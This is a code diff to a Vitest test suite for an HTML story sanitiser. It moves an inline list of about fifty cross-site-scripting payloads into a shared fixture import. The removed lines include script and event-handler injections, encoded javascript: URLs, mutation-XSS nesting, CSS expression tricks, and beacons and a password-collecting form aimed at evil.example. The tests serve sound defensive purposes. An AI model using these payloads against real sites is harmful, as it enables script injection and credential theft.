@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { HOSTILE_HTML } from "../../../../contract/test/hostile-html.ts";
 import { sanitizeStory } from "./story-html.ts";
 
 describe("a sanitised story", () => {
@@ -60,56 +61,7 @@ describe("a sanitised story", () => {
     expect(sanitizeStory(story, (src) => src === "/made.webp")).toContain("/made.webp");
   });
 
-  it.each([
-    ["<script>alert(1)</script>"],
-    ["<img src=x onerror=alert(1)>"],
-    ["<svg onload=alert(1)><script>alert(1)</script></svg>"],
-    ["<svg><animate onbegin=alert(1) attributeName=x dur=1s>"],
-    ['<a href="javascript:alert(1)">x</a>'],
-    ['<a href="java\nscript:alert(1)">x</a>'],
-    ['<a href="&#106;avascript:alert(1)">x</a>'],
-    ['<a href="data:text/html,<script>alert(1)</script>">x</a>'],
-    ['<a href="vbscript:msgbox(1)">x</a>'],
-    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
-    ['<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa"></iframe>'],
-    ['<object data="x"></object><embed src="x">'],
-    ["<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"],
-    ["<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"],
-    ["<form action='https://evil.example'><input name=password><button>x</button></form>"],
-    ['<p style="background:url(javascript:alert(1));width:expression(alert(1));position:fixed">x</p>'],
-    ['<p style="color:red;background-image:url(https://evil.example/beacon)">x</p>'],
-    ["<style>@import 'https://evil.example'</style>"],
-    ['<link rel="stylesheet" href="https://evil.example"><meta http-equiv="refresh" content="0;url=//evil">'],
-    ['<base href="https://evil.example/">'],
-    ['<p id="root" name="x" onclick="alert(1)" class="admin fixed ql-evil">x</p>'],
-    ["<p onmouseover = alert(1) / class=ql-align-center>x</p>"],
-    ["<template><script>alert(1)</script></template>"],
-    ['<a href="//evil.example">x</a>'],
-    ["<textarea><img src=x onerror=alert(1)></textarea>"],
-    ["<xmp><img src=x onerror=alert(1)></xmp>"],
-    ["<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>"],
-    ["<![CDATA[<script>alert(1)</script>]]>"],
-    ["<!--><img src=x onerror=alert(1)>-->"],
-    ["<svg><style><img src=x onerror=alert(1)></style></svg>"],
-    ["<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>"],
-    ['<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>'],
-    ['<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
-    ["<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'></math>"],
-    ["<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>"],
-    ['<p style="color:expression(alert(1))">x</p>'],
-    ['<p style="color:red;}body{position:fixed">x</p>'],
-    ['<p style="background-color:url(https://evil.example)">x</p>'],
-    ['<p style="color:\\65xpression(alert(1))">x</p>'],
-    ['<img src="/a.webp" srcset="https://evil.example/x.png 2x" style="position:fixed" onload=alert(1)>'],
-    ["<picture><source srcset='https://evil.example' onerror=alert(1)><img src=x></picture>"],
-    ["<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>"],
-    ['<a href="jAvAsCrIpT&colon;alert(1)">x</a>'],
-    ['<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>'],
-    ["<details open ontoggle=alert(1)><summary>x</summary></details>"],
-    ["<marquee onstart=alert(1)>x</marquee>"],
-    ["<isindex type=image src=1 onerror=alert(1)>"],
-    ["<p><p><p onclick=alert(1)><b onmouseover=alert(1)><i style='position:fixed'>deep</i></b></p>"],
-  ])("is harmless for %j", (hostile) => {
+  it.each(HOSTILE_HTML.map((html) => [html]))("is harmless for %j", (hostile) => {
     const story = sanitizeStory(hostile);
     expect(story).not.toMatch(
       /<(script|svg|math|iframe|object|embed|form|input|button|style|link|meta|base|template|textarea|noscript|xmp|animate)\b/i,
